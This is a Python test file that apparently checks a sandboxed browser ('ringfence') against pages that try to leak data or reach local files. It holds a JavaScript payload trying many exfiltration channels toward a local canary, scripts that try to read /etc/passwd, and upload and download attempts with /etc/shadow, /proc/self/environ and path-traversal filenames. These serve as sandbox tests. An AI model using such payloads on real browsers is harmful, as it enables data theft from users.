"""What pages try to send by other ways than the proxy, and to read of the machine's files."""

import asyncio
import json
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from ringfence import BrowserError, NavigationFailed, PathAccessDenied, RingfenceError
from tests.support.browser_pages import ALL, HAVE, Driver, driving, pages

pytestmark = pytest.mark.skipif(not HAVE, reason="no browser is installed here (ringfence browser install)")
KINDS = ("boxed", "boxed-chromium") if ALL else ("boxed",)

LEAKS = """
const at = '{at}', name = 'leak.test';
const tries = {{
  fetch: () => fetch(at + '/fetch', {{mode: 'no-cors'}}),
  image: () => new Promise(d => {{ const i = new Image(); i.onload = i.onerror = d; i.src = at + '/image'; }}),
  beacon: () => navigator.sendBeacon(at + '/beacon', 'secret'),
  eventsource: () => new EventSource(at + '/eventsource'),
  websocket: () => new WebSocket(at.replace('http', 'ws') + '/websocket'),
  iframe: () => {{ const f = document.createElement('iframe'); f.src = at + '/iframe'; document.body.append(f); }},
  form: () => {{ const i = document.createElement('iframe'); i.name = 'there'; document.body.append(i);
    const f = document.createElement('form'); f.action = at + '/form'; f.target = 'there';
    document.body.append(f); f.submit(); }},
  popup: () => open(at + '/popup'),
  prefetch: () => {{ for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender']) {{
    const l = document.createElement('link'); l.rel = rel; l.href = at + '/' + rel; document.head.append(l); }} }},
  css: () => {{ const s = document.createElement('style'); s.textContent = `@import url(${{at}}/css)`;
    document.head.append(s); }},
  worker: () => navigator.serviceWorker && navigator.serviceWorker.register('/worker.js'),
  webrtc: async () => {{ const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{stun}'}}]}});
    p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); }},
  names: () => fetch('http://' + name + '/', {{mode: 'no-cors'}}),
  quic: () => fetch('https://' + name + ':443/', {{mode: 'no-cors'}}),
  download: () => {{ const a = document.createElement('a'); a.href = at + '/download'; a.download = 'x'; a.click(); }},
}};
(async () => {{ for (const [n, t] of Object.entries(tries)) {{ try {{ await Promise.race([t(),
  new Promise(d => setTimeout(d, 300))]); }} catch (e) {{}} }} return Object.keys(tries); }})()
"""
WORKER = "addEventListener('install', () => {}); fetch('http://127.0.0.1:%d/worker', {mode: 'no-cors'})"


@contextmanager
def stun_server() -> Iterator[tuple[str, list[bytes]]]:
    """Where UDP would come to."""
    came: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(0.1)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                try:
                    came.append(listener.recv(2000))
                except TimeoutError:
                    continue

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield f"127.0.0.1:{listener.getsockname()[1]}", came
        finally:
            over.set()
            thread.join()


def leak(kind: str, workspace: Path, *, granted: bool) -> tuple[set[str], list[bytes], tuple[str, ...]]:
    """What came to a server that the browser was not, or was, granted; over UDP; and what the proxy refused."""

    async def main() -> tuple[set[str], list[bytes], tuple[str, ...]]:
        with (
            pages() as (canary, seen),
            pages({"/worker.js": (WORKER % canary).encode()}) as (port, _),
            stun_server() as (stun, udp),
        ):
            async with driving(kind, workspace, port, reach=(canary,) if granted else ()) as page:
                await page.go("/second")
                await page.js(LEAKS.format(at=f"http://127.0.0.1:{canary}", stun=stun), timeout=30)
                await page.do("wait", seconds=1)
                assert page.browser.running.refused is not None
                refused = await page.browser.running.refused()
            return {path.strip("/").partition("?")[0] for path in seen.paths}, list(udp), refused

    return asyncio.run(main())


@pytest.mark.req("E5")
@pytest.mark.parametrize("kind", KINDS)
def test_nothing_leaves_but_through_the_proxy(kind: str, tmp_path: Path) -> None:
    came, udp, refused = leak(kind, tmp_path, granted=False)
    assert (came, udp) == (set(), [])
    assert any("leak.test:80" in each for each in refused), refused
    assert any("leak.test:443" in each for each in refused), refused
    # The twin: the same page, where the server is granted. Only UDP goes nowhere in either.
    came, udp, _ = leak(kind, tmp_path, granted=True)
    expected = {"fetch", "image", "beacon", "eventsource", "websocket", "iframe", "form", "popup", "css", "download"}
    assert came >= expected | {"worker"}, expected - came
    assert udp == []


def test_an_idle_browser_sends_nothing(tmp_path: Path) -> None:
    async def main() -> None:
        with pages() as (port, seen):
            async with driving("boxed", tmp_path, port) as page:
                await page.do("navigate", url="about:blank")
                await asyncio.sleep(60 if ALL else 3)
                assert page.browser.running.refused is not None
                assert await page.browser.running.refused() == () and seen.paths == []

    asyncio.run(main())


ROUTES = (
    "location = 'file:///etc/passwd'",
    "open('file:///etc/passwd')",
    "fetch('file:///etc/passwd').then(r => r.text())",
    "new Promise(d => { const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd'); "
    "x.onloadend = () => d(x.responseText); x.send() })",
    "new Promise(d => { const f = document.createElement('iframe'); f.src = 'file:///etc/passwd'; "
    "f.onload = () => { try { d(f.contentDocument.body.innerText) } catch (e) { d('') } }; document.body.append(f); "
    "setTimeout(d, 500) })",
    "new Promise(d => { const o = document.createElement('object'); o.data = 'file:///etc/passwd'; "
    "document.body.append(o); setTimeout(() => d(o.contentDocument && o.contentDocument.body.innerText), 500) })",
    "new Promise(d => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'file:///etc/passwd'; "
    "l.onload = () => d('root:loaded'); l.onerror = () => d(''); document.head.append(l) })",
    "new Promise(d => { const s = document.createElement('script'); s.src = 'file:///etc/passwd'; "
    "s.onload = () => d('root:loaded'); s.onerror = () => d(''); document.head.append(s) })",
    "new Promise(d => { const w = new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('file:///etc/passwd').then(r=>r.text()).then(postMessage,()=>postMessage(''))\"]))); "
    "w.onmessage = e => d(e.data); setTimeout(d, 500) })",
    "location = 'view-source:file:///etc/passwd'",
)


@pytest.mark.req("E5")
def test_no_way_of_a_page_leads_to_a_file_of_the_machine(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text("<body>a file that was handed over")
    more = {"/to-file": "<meta http-equiv=refresh content='0;url=file:///etc/passwd'>"}

    async def on(page: Driver) -> None:
        for script in ROUTES:
            try:
                told = await page.js(script, timeout=5)
            except RingfenceError:
                told = ""
            assert "root:" not in str(told or ""), script
            for tab in (await page.do("tabs")).values["tabs"]:
                assert not tab["url"].startswith(("file:///etc", "view-source:")), script
                assert "root:" not in (await page.do("read", form="text", tab=tab["id"])).page, script

    async def main() -> None:
        with pages(more) as (port, _):
            async with driving("boxed", tmp_path, port) as page:
                await page.go("/second")
                await on(page)
                await page.go("/to-file")
                await page.do("wait", seconds=0.3)
                assert "root:" not in (await page.do("read", form="text")).page
                handed = await page.do("navigate", path="page.html")  # itself a file, and the same holds
                assert (await page.do("read", form="text")).page == "a file that was handed over"
                await on(page)
                for url in (
                    *("file:///etc/passwd", "FILE:///etc/passwd", "view-source:http://a.test", "chrome://version"),
                    *("data:text/html,x", "javascript:1", "blob:x", "about:gpu", "devtools://devtools", "ftp://a/b"),
                    *("filesystem:http://a/b", "chrome-untrusted://print", "intent://x", handed.values["url"]),
                ):
                    await page.fails(NavigationFailed, "navigate", url=url)

    asyncio.run(main())


def test_uploads_are_of_the_workspace_and_downloads_stay_below_it(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (tmp_path / "outside.txt").write_text("outside")
    (work / "link.txt").symlink_to("/etc/shadow")
    (work / "up.txt").symlink_to("../outside.txt")
    (work / "ok.txt").write_text("fine")

    async def main() -> None:
        with pages() as (port, _):
            async with driving("boxed", work, port) as page:
                await page.go("/")
                for path in ("/etc/shadow", "../outside.txt", "link.txt", "up.txt", "/proc/self/environ", "/dev/zero"):
                    with pytest.raises((PathAccessDenied, OSError, RingfenceError)):
                        await page.do("upload", selector="#up", paths=[path])
                    assert await page.js("up.files.length") == 0, path
                await page.do("upload", selector="#up", paths=["ok.txt"])  # the twin
                assert await page.js("up.files.length") == 1
                for name in ("../../x", "..", "a/b\\c", "\u202egpj.exe", "x" * 300, "con\u0000trol", ".bashrc", "-rf"):
                    click = f"a => {{ a.href = '/file.bin'; a.download = {json.dumps(name)}; a.click() }}"
                    await page.js(f"void ({click})(document.createElement('a'))")
                await page.do("wait", seconds=1)
                rows = (await page.do("downloads")).values["downloads"]
                assert rows and all(row["state"] == "completed" for row in rows)
                kept = [each for each in work.rglob("*") if each.parent.name == "downloads"]
                assert len(kept) == len(rows)
                assert all(each.parent == work / "downloads" and not each.name.startswith(".") for each in kept)
                assert all(each.name.isprintable() and len(each.name) <= 130 for each in kept)
                assert (tmp_path / "outside.txt").read_text() == "outside"
                with pytest.raises((RingfenceError, OSError)):
                    await page.do("screenshot", save_to="../shot.png")
                assert not (tmp_path / "shot.png").exists()

    asyncio.run(main())


def test_a_download_that_is_a_bomb_is_cut_off(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ringfence.browser.browser.DOWNLOAD_BYTES", 500)

    async def main() -> Any:
        with pages() as (port, _):
            async with driving("boxed", tmp_path, port) as page:
                await page.go("/")
                await page.do("click", role="link", name="get")
                return (await page.do("downloads")).values["downloads"]

    (row,) = asyncio.run(main())
    assert (row["state"], row["why"], row["saved"]) == ("canceled", "larger than 500 bytes", "")
    assert not (tmp_path / "downloads").exists()


def test_a_browser_with_no_network_grant_says_so(tmp_path: Path) -> None:
    from ringfence import BrowserAction, Sandbox

    async def main() -> None:
        async with Sandbox(workspace=tmp_path) as box:
            began = time.monotonic()
            with pytest.raises(BrowserError, match="refused it: only hosts that are granted"):
                go = BrowserAction("navigate", {"url": "https://example.com"})
                await box.browser.execute(go, context={"is_research": True})
            assert time.monotonic() - began < 30

    asyncio.run(main())
